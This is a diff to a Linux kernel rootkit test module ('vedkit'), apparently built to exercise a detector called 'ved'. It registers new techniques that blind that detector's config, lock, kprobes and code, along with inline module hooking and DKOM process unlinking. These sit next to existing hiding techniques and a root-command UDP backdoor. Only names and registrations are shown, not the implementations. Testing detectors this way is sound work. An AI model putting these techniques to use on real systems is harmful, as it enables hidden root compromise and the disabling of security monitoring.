@@ -12,7 +12,13 @@
  *   kprobe_port  kprobe hook on tcp[46]_seq_show: hide a TCP port
  *   hide_pid     hijack /proc's iterate_shared: hide a pid from /proc
  *   nf_backdoor  netfilter hook: UDP magic packet runs a command as root
+ *   ved_config   ved's own mode for a detector set to off in its memory
+ *   ved_unlock   ved's own lock flag cleared in its memory
+ *   ved_unprobe  ved's own kprobes disabled (or unregistered)
+ *   ved_text     a ved function patched to return 0 at once
  *   clear_taint  zero the kernel's tainted_mask
+ *   patch_module inline hook (jmp) in another module's function
+ *   unlink_task  DKOM: a process off the task list and its pid, still running
  *
  * See README.md for what each one does and where it works.
  */
@@ -32,7 +38,7 @@
 
 static char *techniques = "";
 module_param(techniques, charp, 0400);
-MODULE_PARM_DESC(techniques, "comma list: sct,dispatch,hide_module,ftrace_file,kprobe_port,hide_pid,nf_backdoor,clear_taint");
+MODULE_PARM_DESC(techniques, "comma list: sct,dispatch,hide_module,ftrace_file,kprobe_port,hide_pid,nf_backdoor,clear_taint,patch_module,ved_config,ved_unlock,ved_unprobe,ved_text,unlink_task");
 
 char *vk_hide_prefix = "vedkit_";
 module_param_named(hide_prefix, vk_hide_prefix, charp, 0400);
@@ -41,6 +47,10 @@ MODULE_PARM_DESC(hide_prefix, "ftrace_file: hide directory entries starting with
 int vk_hide_pid;
 module_param_named(hide_pid, vk_hide_pid, int, 0400);
 MODULE_PARM_DESC(hide_pid, "hide_pid: the process to hide from /proc");
+
+int vk_unlink_pid;
+module_param_named(unlink_pid, vk_unlink_pid, int, 0400);
+MODULE_PARM_DESC(unlink_pid, "unlink_task: the (single-threaded) process to unlink");
 
 int vk_hide_port = 31337;
 module_param_named(hide_port, vk_hide_port, int, 0400);
@@ -158,12 +168,18 @@ struct vk_technique {
  */
 static struct vk_technique vk_techniques[] = {
 	{ "clear_taint", vk_clear_taint_init, NULL },
+	{ "ved_config", vk_ved_config_init, NULL },
+	{ "ved_unlock", vk_ved_unlock_init, NULL },
+	{ "ved_unprobe", vk_ved_unprobe_init, NULL },
+	{ "ved_text", vk_ved_text_init, NULL },
 	{ "sct", vk_sct_init, vk_sct_exit },
 	{ "dispatch", vk_dispatch_init, vk_dispatch_exit },
 	{ "ftrace_file", vk_ftrace_file_init, vk_ftrace_file_exit },
 	{ "kprobe_port", vk_kprobe_port_init, vk_kprobe_port_exit },
 	{ "hide_pid", vk_hide_pid_init, vk_hide_pid_exit },
 	{ "nf_backdoor", vk_nf_backdoor_init, vk_nf_backdoor_exit },
+	{ "patch_module", vk_patch_module_init, vk_patch_module_exit },
+	{ "unlink_task", vk_unlink_task_init, vk_unlink_task_exit },
 	{ "hide_module", vk_hide_module_init, NULL },
 };
 
